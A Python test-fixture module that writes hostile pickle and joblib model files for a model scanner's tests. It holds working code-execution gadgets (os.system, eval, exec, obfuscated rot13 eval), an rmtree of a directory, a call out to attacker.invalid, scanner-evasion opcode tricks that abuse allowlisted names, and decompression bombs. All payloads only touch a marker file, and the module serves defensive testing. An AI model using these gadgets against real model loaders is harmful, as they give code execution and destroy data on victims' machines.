"""Generators of hostile model files for the scanner tests.

Everything here only *writes* bytes: payloads are either hand-assembled
pickle opcodes or produced by ``pickle``/``joblib`` dumping small classes with
a malicious ``__reduce__``. Nothing here ever loads a pickle. Each payload,
if it were loaded, would create a marker file, so tests can also assert that
the marker never appears.
"""

from __future__ import annotations

import builtins
import codecs
import functools
import importlib
import io
import lzma
import operator
import os
import pickle
import runpy
import shutil
import struct
import subprocess
import webbrowser
import zipfile
import zlib
from pathlib import Path
from typing import Any

import joblib
import numpy as np

# -- small helpers to assemble opcodes ---------------------------------------


def unicode(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4) for short strings."""
    data = text.encode("utf-8")
    assert len(data) < 256
    return b"\x8c" + bytes([len(data)]) + data


def binunicode(text: str) -> bytes:
    """BINUNICODE (protocol 1+)."""
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def shell(marker: Path) -> str:
    """The command every payload would run."""
    return f"touch {marker}"


# -- payloads built with __reduce__ --------------------------------------------


class Reduce:
    """Pickles as ``func(*args)``: the classic pickle code-execution gadget."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def os_system(marker: Path) -> Reduce:
    return Reduce(os.system, shell(marker))


def subprocess_popen(marker: Path) -> Reduce:
    return Reduce(subprocess.Popen, ["touch", str(marker)])


def builtins_eval(marker: Path) -> Reduce:
    return Reduce(builtins.eval, f"__import__('os').system({shell(marker)!r})")


def builtins_exec(marker: Path) -> Reduce:
    return Reduce(builtins.exec, f"import os; os.system({shell(marker)!r})")


def runpy_run_code(marker: Path) -> Reduce:
    return Reduce(runpy._run_code, f"import os; os.system({shell(marker)!r})", {})


def shutil_rmtree(marker: Path) -> Reduce:
    return Reduce(shutil.rmtree, str(marker.parent / "victim"))


def webbrowser_open(marker: Path) -> Reduce:
    return Reduce(webbrowser.open, "http://attacker.invalid/")


def importlib_import(marker: Path) -> Reduce:
    return Reduce(importlib.import_module, "os")


def codecs_eval(marker: Path) -> Reduce:
    """eval(codecs.decode(<rot13 source>, 'rot13')): hides the source text."""
    source = codecs.encode(f"__import__('os').system({shell(marker)!r})", "rot13")
    return Reduce(builtins.eval, Reduce(codecs.decode, source, "rot13"))


def functools_partial(marker: Path) -> Any:
    return functools.partial(os.system, shell(marker))


def operator_attrgetter(marker: Path) -> Any:
    return operator.attrgetter("system")


def dumps(obj: Any, protocol: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=protocol)


# -- hand-assembled payloads --------------------------------------------------


def global_os_system(marker: Path) -> bytes:
    """Protocol 0: GLOBAL os.system, then REDUCE."""
    return b"cos\nsystem\n(S'" + shell(marker).encode() + b"'\ntR."


def getattr_import(marker: Path) -> bytes:
    """getattr(__import__('os'), 'system')(cmd), all via GLOBAL/REDUCE."""
    return (
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR"
        b"(S'" + shell(marker).encode() + b"'\ntR."
    )


def stack_global_memo(marker: Path) -> bytes:
    """STACK_GLOBAL whose module/name were stored in the memo long before.

    The strings are pushed, stored with BINPUT, popped, buried under other
    data, and only then fetched back with BINGET for STACK_GLOBAL.
    """
    return (
        b"\x80\x04"
        + unicode("os")
        + b"q\x00"
        + b"0"  # memo[0] = 'os', pop
        + unicode("system")
        + b"q\x01"
        + b"0"  # memo[1] = 'system', pop
        + b"}"
        + unicode("harmless")
        + b"K\x01s0"  # unrelated dict, popped
        + b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
        + unicode(shell(marker))
        + b"\x85R."
    )


def inst_os_system(marker: Path) -> bytes:
    """INST opcode: module and name inline, arguments after a MARK."""
    return b"(S'" + shell(marker).encode() + b"'\nios\nsystem\n."


def obj_os_system(marker: Path) -> bytes:
    """OBJ opcode: class/callable is the first item after the MARK."""
    return (
        b"\x80\x02(cos\nsystem\nX"
        + struct.pack("<I", len(shell(marker)))
        + shell(marker).encode()
        + b"o."
    )


def stack_global_computed(marker: Path) -> bytes:
    """STACK_GLOBAL whose module name is not a string constant (a list)."""
    return b"\x80\x04]" + unicode("system") + b"\x93" + unicode(shell(marker)) + b"\x85R."


def dotted_name(marker: Path) -> bytes:
    """Protocol 4 follows dotted names attribute by attribute: sklearn.base -> os -> system."""
    return (
        b"\x80\x04"
        + unicode("sklearn.base")
        + unicode("os.system")
        + b"\x93"
        + unicode(shell(marker))
        + b"\x85R."
    )


def ufunc_reconstruct(marker: Path) -> bytes:
    """numpy's legacy ufunc loader is an import-anything gadget."""
    return (
        b"\x80\x02cnumpy.core\n_ufunc_reconstruct\nX\x02\x00\x00\x00osX\x06\x00\x00\x00system"
        b"\x86R" + binunicode(shell(marker)) + b"\x85R."
    )


def ext1() -> bytes:
    return b"\x80\x02\x82\x01."


def ext2() -> bytes:
    return b"\x80\x02\x83\x01\x02."


def ext4() -> bytes:
    return b"\x80\x02\x84\x01\x02\x03\x04."


def persid() -> bytes:
    return b"Pos.system\n."


def binpersid() -> bytes:
    return b"\x80\x02" + binunicode("os.system") + b"Q."


def reduce_on_instance() -> bytes:
    """REDUCE whose callable is an object built earlier, not a global."""
    return b"\x80\x02cbuiltins\nlist\n)R)R."


def build_on_class() -> bytes:
    """BUILD on a class object: would monkey-patch the class."""
    return b"\x80\x02csklearn.pipeline\nPipeline\n}X\x07\x00\x00\x00predictcbuiltins\nlist\nsb."


def mark_bomb(depth: int = 100_000) -> bytes:
    """MARKs nested far beyond any real model."""
    return b"\x80\x02" + b"(" * depth + b"t" * depth + b"."


def nested_lists(depth: int = 100_000) -> bytes:
    """Lists nested *depth* deep without a single MARK (EMPTY_LIST + APPEND)."""
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


def nested_via_memo(depth: int = 5_000) -> bytes:
    """Lists made first, then linked through the memo: depth appears only at the end."""
    out = [b"\x80\x02"]
    for i in range(depth):
        out.append(b"]r" + struct.pack("<I", i) + b"0")  # LONG_BINPUT i, POP
    for i in range(depth - 1):
        out.append(b"j" + struct.pack("<I", i) + b"j" + struct.pack("<I", i + 1) + b"a0")
    out.append(b"j" + struct.pack("<I", 0) + b".")
    return b"".join(out)


# -- files ----------------------------------------------------------------------


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def joblib_dump(obj: Any, path: Path, compress: Any = 0) -> Path:
    joblib.dump(obj, path, compress=compress)
    return path


def zlib_bomb(path: Path, size: int = 200 * 1024**2) -> Path:
    """A zlib joblib-looking file whose pickle holds *size* zero bytes.

    The decompressed stream starts like a real pickle (PROTO, BINBYTES8 of
    *size* bytes) so it passes format detection and must be stopped by the
    decompression bound while the scanner skips the bytes payload.
    """
    compressor = zlib.compressobj(9)
    chunk = bytes(1024**2)
    with open(path, "wb") as fh:
        fh.write(compressor.compress(b"\x80\x04\x8e" + struct.pack("<Q", size)))
        for _ in range(size // len(chunk)):
            fh.write(compressor.compress(chunk))
        fh.write(compressor.compress(b"."))
        fh.write(compressor.flush())
    return path


def xz_ratio_bomb(path: Path, size: int = 32 * 1024**2) -> Path:
    """Small xz file expanding about ten thousand times."""
    data = b"\x80\x04\x8e" + struct.pack("<Q", size) + bytes(size) + b"."
    path.write_bytes(lzma.compress(data, format=lzma.FORMAT_XZ))
    return path


def legacy_zfile(path: Path, pickled: bytes) -> Path:
    """joblib < 0.10 'ZF' container: b'ZF', hex length padded to 19, zlib data."""
    header = b"ZF" + hex(len(pickled)).encode().ljust(19)
    path.write_bytes(header + zlib.compress(pickled))
    return path


def joblib_array_inside_frame(path: Path) -> Path:
    """A joblib dump whose first FRAME is stretched over the raw array bytes.

    The pure-Python unpickler joblib uses would read the frame first and the
    array bytes from *after* it: a scanner reading linearly would disagree.
    """
    buffer = io.BytesIO()
    joblib.dump(np.arange(4, dtype=np.int64), buffer)
    data = bytearray(buffer.getvalue())
    assert data[2] == 0x95  # PROTO 4, then FRAME
    (length,) = struct.unpack("<Q", data[3:11])
    data[3:11] = struct.pack("<Q", length + 16)
    path.write_bytes(bytes(data))
    return path


def skops_zip(
    path: Path, schema: bytes, extra: dict[str, bytes] | None = None, big_entry: int = 0
) -> Path:
    """Write a zip with ``schema.json`` and optional extra or huge entries."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", schema)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
        if big_entry:
            with archive.open("big.npy", "w", force_zip64=True) as fh:
                chunk = bytes(1024**2)
                for _ in range(big_entry // len(chunk)):
                    fh.write(chunk)
    return path


def random_bytes(size: int = 4096, seed: int = 7) -> bytes:
    return np.random.default_rng(seed).bytes(size)


PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"
TEXT = b"sepal_length,sepal_width,species\n5.1,3.5,setosa\n4.9,3.0,setosa\n"


# -- payloads made of allowed names only (issue 11: the scanner is not the authority) ----
#
# Each file below passed the pre-issue-11 scanner. The joblib ones make the loader read
# bytes the scanner took for array data as a nested pickle (which runs `touch marker`);
# the others reach code, the network or memory through names the old allowlist admitted.
# They are written as protocol-2 opcodes, so that each trick is visible in the bytes.

#: The version these payloads claim (the portal's own: its environment is at hand).
SKLEARN_VERSION = "1.9.1"
MARK, TUPLE, EMPTY_TUPLE, EMPTY_DICT, SETITEMS = b"(", b"t", b")", b"}", b"u"
REDUCE, NEWOBJ, BUILD, STOP, NONE = b"R", b"\x81", b"b", b".", b"N"
TRUE, FALSE, PROTO2, EMPTY_LIST, APPENDS = b"\x88", b"\x89", b"\x80\x02", b"]", b"e"


def glob(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def binint(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    return EMPTY_DICT + MARK + b"".join(k + v for k, v in pairs) + SETITEMS


def reconstructed(cls: bytes) -> bytes:
    """copyreg._reconstructor(cls, object, None): how protocols 0-2 make an instance."""
    return glob("copyreg", "_reconstructor") + tup(cls, glob("builtins", "object"), NONE) + REDUCE


def np_core() -> str:
    return "numpy._core.multiarray" if np.__version__ >= "2" else "numpy.core.multiarray"


def dtype(code: str, *, flags: int = 0, elsize: int = -1, endian: str = "<") -> bytes:
    """numpy.dtype(code) with an explicit BUILD state (as numpy pickles dtypes)."""
    state = tup(binint(3), binunicode(endian), NONE, NONE, NONE, binint(elsize), binint(-1),
                binint(flags))  # fmt: skip
    return glob("numpy", "dtype") + tup(binunicode(code), FALSE, TRUE) + REDUCE + state + BUILD


def wrapper(dtype_bytes: bytes, *, shape: int = 1, extra: tuple = ()) -> bytes:
    """joblib's NumpyArrayWrapper for a 1-d array, built as joblib writes it."""
    state = dct(
        (binunicode("subclass"), glob("numpy", "ndarray")),
        (binunicode("shape"), tup(binint(shape))),
        (binunicode("order"), binunicode("C")),
        (binunicode("dtype"), dtype_bytes),
        (binunicode("allow_mmap"), FALSE),
        (binunicode("numpy_array_alignment_bytes"), binint(16)),
        *extra,
    )
    return glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD


def nested_system(marker: Path) -> bytes:
    return pickle.dumps(os_system(marker), protocol=2)


def lying_dtype_joblib(marker: Path) -> bytes:
    """An 'f8' dtype whose flags say it holds objects: the scanner reads 8 bytes of array
    data, joblib (dtype.hasobject) reads them as a nested pickle."""
    payload = nested_system(marker)
    return PROTO2 + wrapper(dtype("f8", flags=63, elsize=8)) + payload + STOP


def second_build_dtype_joblib(marker: Path) -> bytes:
    """A dtype BUILT twice: the first state is an honest float, the second claims objects."""
    twice = (
        dtype("f8")[:-1]
        + BUILD
        + tup(binint(3), binunicode("|"), NONE, NONE, NONE, binint(8), binint(-1), binint(63))
        + BUILD
    )
    return PROTO2 + wrapper(twice) + nested_system(marker) + STOP


def wrapper_shadows_method(marker: Path) -> bytes:
    """An array wrapper whose state sets `read_array` (the method joblib calls) to an
    allowed class: instance state shadows the loader's own method."""
    extra = ((binunicode("read_array"), glob("sklearn.dummy", "DummyClassifier")),)
    return PROTO2 + wrapper(dtype("f8"), extra=extra) + b"\x00" + b"\x00" * 8 + STOP


def str_subclass_state_key(marker: Path) -> bytes:
    """BUILD with a key that is a numpy.str_ (a str subclass) spelling __class__: the object
    becomes another (allowed) class after the scanner judged it."""
    key = glob("numpy", "str_") + tup(binunicode("__class__")) + REDUCE
    obj = reconstructed(glob("sklearn.dummy", "DummyClassifier"))
    state = tup(NONE, dct((key, glob("sklearn.dummy", "DummyRegressor"))))
    return PROTO2 + obj + state + BUILD + STOP


def state_made_by_call(marker: Path) -> bytes:
    """A BUILD state that is not a literal but the result of a call (an OrderedDict built
    from pairs): the scanner cannot see its keys."""
    pairs = (
        EMPTY_LIST + MARK + tup(binunicode("__class__"), glob("sklearn.dummy", "DummyRegressor"))
    )
    state = glob("collections", "OrderedDict") + tup(pairs + APPENDS) + REDUCE
    obj = reconstructed(glob("sklearn.dummy", "DummyClassifier"))
    return PROTO2 + obj + state + BUILD + STOP


def laundered_global(marker: Path) -> bytes:
    """numpy's scalar(dtype('O'), X) hands back X: an allowed class laundered into an
    'object made while loading', whose BUILD then monkey-patches the class itself."""
    dt = glob("numpy", "dtype") + tup(binunicode("O8"), FALSE, TRUE) + REDUCE
    cls = glob(np_core(), "scalar") + tup(dt, glob("sklearn.base", "BaseEstimator")) + REDUCE
    patch = tup(NONE, dct((binunicode("get_params"), glob("numpy", "log1p"))))
    return PROTO2 + cls + patch + BUILD + STOP


def dynamic_class(marker: Path) -> bytes:
    """A class made at load time by a metaclass scikit-learn re-exports (abc.ABCMeta as
    sklearn.naive_bayes.ABCMeta), subclassing joblib's array wrapper, then instantiated:
    the scanner cannot name what NEWOBJ makes."""
    made = (
        glob("sklearn.naive_bayes", "ABCMeta")
        + tup(binunicode("Evil"), tup(glob("joblib.numpy_pickle", "NumpyArrayWrapper")), EMPTY_DICT)
        + REDUCE
    )
    return PROTO2 + made + EMPTY_TUPLE + NEWOBJ + STOP


def side_effect_setstate(marker: Path) -> bytes:
    """A scikit-learn class whose __setstate__ opens a listening socket (a callback's
    listener): a CamelCase name in a scikit-learn module, never part of a model."""
    obj = glob("sklearn.callback._scoring_monitor", "ScoringMonitor") + EMPTY_TUPLE + NEWOBJ
    state = dct(
        (binunicode("_listener_handle"), NONE),
        (binunicode("_log"), EMPTY_LIST),
        (binunicode("_sklearn_version"), binunicode(SKLEARN_VERSION)),
    )
    return PROTO2 + obj + state + BUILD + STOP


def allowed_function_called(marker: Path) -> bytes:
    """An allowed function (a metric a scorer keeps) called by the stream while loading."""
    call = (
        glob("sklearn.metrics._regression", "mean_squared_error")
        + tup(EMPTY_LIST, EMPTY_LIST)
        + REDUCE
    )
    obj = reconstructed(glob("sklearn.dummy", "DummyClassifier"))
    state = dct(
        (binunicode("constant"), call),
        (binunicode("_sklearn_version"), binunicode(SKLEARN_VERSION)),
    )
    return PROTO2 + obj + state + BUILD + STOP


def class_argument_made_at_load(marker: Path) -> bytes:
    """copyreg._reconstructor given a class that an earlier call returned."""
    dt = glob("numpy", "dtype") + tup(binunicode("O8"), FALSE, TRUE) + REDUCE
    cls = glob(np_core(), "scalar") + tup(dt, glob("sklearn.dummy", "DummyClassifier")) + REDUCE
    obj = reconstructed(cls)
    return PROTO2 + obj + STOP


def structured_object_dtype(marker: Path) -> bytes:
    """A structured dtype with an object field, in an ndarray rebuilt from raw bytes: numpy
    would read the bytes as object pointers (memory corruption)."""
    field = dtype("O8", flags=63, endian="|")
    fields = dct((binunicode("a"), tup(field, binint(0))))
    state = tup(binint(3), binunicode("|"), NONE, tup(binunicode("a")), fields, binint(8),
                binint(1), binint(63))  # fmt: skip
    dt = glob("numpy", "dtype") + tup(binunicode("V8"), FALSE, TRUE) + REDUCE + state + BUILD
    arr = (
        glob(np_core(), "_reconstruct")
        + tup(glob("numpy", "ndarray"), tup(binint(0)), b"U\x01b")
        + REDUCE
    )
    arr_state = tup(binint(1), tup(binint(1)), dt, FALSE, b"C\x08" + b"\x41" * 8)
    return PROTO2 + arr + arr_state + BUILD + STOP


def file_reading_vectorizer_bytes(marker: Path) -> bytes:
    buffer = io.BytesIO()
    file_reading_vectorizer(buffer)
    return buffer.getvalue()


def file_reading_vectorizer(path: Any) -> Any:
    """A real, fitted TfidfVectorizer + classifier switched to input='filename': predict
    opens whatever path a client sends."""
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    model = make_pipeline(TfidfVectorizer(), LogisticRegression())
    model.fit(["spam spam offer", "hello friend", "win money now", "see you soon"], [1, 0, 1, 0])
    model.set_params(tfidfvectorizer__input="filename")
    joblib.dump(model, path)
    return path


#: name -> (generator, format, what the loader's refusal names)
ALLOWED_NAME_PAYLOADS: dict[str, tuple[Any, str, str]] = {
    "lying_dtype": (lying_dtype_joblib, "joblib", "dtype"),
    "second_build": (second_build_dtype_joblib, "joblib", "second BUILD"),
    "wrapper_shadows_method": (wrapper_shadows_method, "joblib", "read_array"),
    "str_subclass_key": (str_subclass_state_key, "pickle", "not a plain str"),
    "state_made_by_call": (state_made_by_call, "pickle", "made by a call"),
    "laundered_global": (laundered_global, "pickle", "scalar"),
    "dynamic_class": (dynamic_class, "joblib", "ABCMeta"),
    "side_effect_setstate": (side_effect_setstate, "pickle", "ScoringMonitor"),
    "allowed_function_called": (allowed_function_called, "pickle", "not called while loading"),
    "class_argument_made_at_load": (class_argument_made_at_load, "pickle", "scalar"),
    "structured_object_dtype": (structured_object_dtype, "pickle", "dtype"),
    "file_reading_vectorizer": (file_reading_vectorizer_bytes, "joblib", "input='filename'"),
}
